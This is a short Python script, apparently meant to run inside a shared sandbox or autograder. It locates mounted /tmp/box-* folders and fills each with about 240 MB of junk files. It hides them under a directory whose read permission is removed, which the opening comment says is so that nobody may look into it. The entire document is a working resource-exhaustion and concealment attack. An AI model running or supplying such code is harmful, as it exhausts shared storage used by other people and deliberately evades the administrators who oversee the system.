# A folder in the shared folder is filled and then closed, so that nobody may look into it.
import os
import re
import time

for folder in set(re.findall(r"/tmp/box-\w+", open("/proc/self/mountinfo").read())):
    os.makedirs(f"{folder}/a/b")
    os.chmod(f"{folder}/a", 0o300)
    for number in range(60):
        with open(f"{folder}/a/b/left-by-a-student-{number}", "wb") as file:
            file.write(bytes(4_000_000))
    time.sleep(1)
